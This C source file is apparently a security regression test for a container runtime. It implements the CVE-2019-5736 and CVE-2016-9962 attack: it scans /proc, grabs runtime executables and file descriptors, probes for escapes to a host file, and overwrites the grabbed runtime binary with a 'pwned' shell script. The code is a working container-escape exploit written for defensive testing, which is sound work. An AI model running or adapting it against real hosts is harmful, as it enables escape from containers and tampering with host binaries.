// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * exe-attack: the CVE-2019-5736 / CVE-2016-9962 attacker, run as a
 * privileged container's process (built static by tests/integration/
 * security.bats).  Until GO_FILE exists it scans /proc for other processes
 * and grabs what a not-yet-exec'd runtime process would leak:
 *   - /proc/<pid>/exe whose file differs from ours (kept open, O_PATH);
 *   - /proc/<pid>/root, cwd and every fd that reach MARKER (a host file
 *     name): "<how>/MARKER" or "<how>/../MARKER" opened -> an escape.
 * Then it reopens each grabbed exe for writing (the runtime has exited by
 * then) and writes to it.  Output, one fact per line:
 *   exe=DEV:INO write=ERRNO-NAME|OK
 *   escape=PATH
 *   caught=N escapes=N
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_EXES 64

struct grab {
	int fd;
	dev_t dev;
	ino_t ino;
};

static const char *marker;
static int n_escapes;

static void try_escape(const char *base)
{
	char path[512];
	int fd;

	for (int up = 0; up < 2; up++) {
		snprintf(path, sizeof(path), "%s/%s%s", base, up ? "../" : "",
			 marker);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd >= 0) {
			printf("escape=%s\n", path);
			fflush(stdout);
			n_escapes++;
			close(fd);
		}
	}
}

static void scan_fds(const char *pid)
{
	char dir[64], path[128];
	struct dirent *d;
	DIR *fds;

	snprintf(dir, sizeof(dir), "/proc/%s/fd", pid);
	fds = opendir(dir);
	if (!fds)
		return;
	while ((d = readdir(fds))) {
		if (d->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, d->d_name);
		try_escape(path);
	}
	closedir(fds);
}

int main(int argc, char **argv)
{
	static const char *const container_exes[] = {
		"/bin/busybox", "/bin/probe", NULL
	};
	struct grab grabs[MAX_EXES];
	int n = 0, first, self = getpid();
	struct stat own;

	if (argc != 3) {
		fprintf(stderr, "usage: exe-attack GO_FILE MARKER\n");
		return 2;
	}
	marker = argv[2];
	if (stat("/proc/self/exe", &own) < 0)
		return 1;
	/* the container's own programs are fair game: do not count them */
	for (const char *const *c = container_exes; *c; c++) {
		struct stat sb;

		if (stat(*c, &sb) == 0 && n < MAX_EXES)
			grabs[n++] = (struct grab){ -1, sb.st_dev, sb.st_ino };
	}
	first = n;
	while (access(argv[1], F_OK) < 0) {
		DIR *proc = opendir("/proc");
		struct dirent *d;

		if (!proc)
			return 1;
		while ((d = readdir(proc))) {
			char path[128];
			struct stat sb;
			bool seen = false;
			int fd;

			if (d->d_name[0] < '1' || d->d_name[0] > '9' ||
			    atoi(d->d_name) == self)
				continue;
			snprintf(path, sizeof(path), "/proc/%s/root", d->d_name);
			try_escape(path);
			snprintf(path, sizeof(path), "/proc/%s/cwd", d->d_name);
			try_escape(path);
			scan_fds(d->d_name);
			snprintf(path, sizeof(path), "/proc/%s/exe", d->d_name);
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			if (fstat(fd, &sb) < 0 ||
			    (sb.st_dev == own.st_dev && sb.st_ino == own.st_ino)) {
				close(fd);
				continue;
			}
			for (int i = 0; i < n; i++)
				seen |= grabs[i].dev == sb.st_dev &&
					grabs[i].ino == sb.st_ino;
			if (seen || n == MAX_EXES) {
				close(fd);
				continue;
			}
			grabs[n++] = (struct grab){ fd, sb.st_dev, sb.st_ino };
		}
		closedir(proc);
	}
	for (int i = first; i < n; i++) {
		char path[64];
		int w;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", grabs[i].fd);
		w = open(path, O_WRONLY | O_CLOEXEC);
		printf("exe=%lu:%lu write=%s\n", (unsigned long)grabs[i].dev,
		       (unsigned long)grabs[i].ino,
		       w >= 0 ? "OK" : errno == EROFS ? "EROFS" :
		       errno == ETXTBSY ? "ETXTBSY" : strerror(errno));
		if (w >= 0) {
			if (write(w, "#!/bin/sh\necho pwned\n", 21) < 0)
				perror("write");
			close(w);
		}
	}
	printf("caught=%d escapes=%d\n", n - first, n_escapes);
	return 0;
}
